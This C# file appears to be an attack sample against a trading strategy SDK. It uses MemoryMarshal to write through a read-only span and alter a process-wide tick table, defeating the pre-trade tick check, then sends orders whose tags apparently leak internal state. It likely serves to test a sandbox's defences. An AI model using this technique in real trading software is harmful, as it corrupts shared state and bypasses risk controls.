// Abuses: MemoryMarshal.GetReference of a read-only span gives a writable reference.
// Harm: changes the bands of TickTable.UsEquity, one object for the whole process: the gate's tick check means nothing any more.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.InteropServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.MemorymarshalTickTableAttack;

public sealed class MemorymarshalTickTableStrategy : Strategy
{
    public override void OnStart()
    {
        Context.Subscribe(new InstrumentId(1));
        ReadOnlySpan<TickBand> bands = Context.Instrument(new InstrumentId(1)).Ticks.Bands;
        Span<TickBand> open = MemoryMarshal.CreateSpan(ref MemoryMarshal.GetReference(bands), bands.Length);
        open[^1] = new TickBand(open[^1].From, new Price(1));
    }

    public override void OnBook(in BookEvent bookEvent) => Act(1);

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
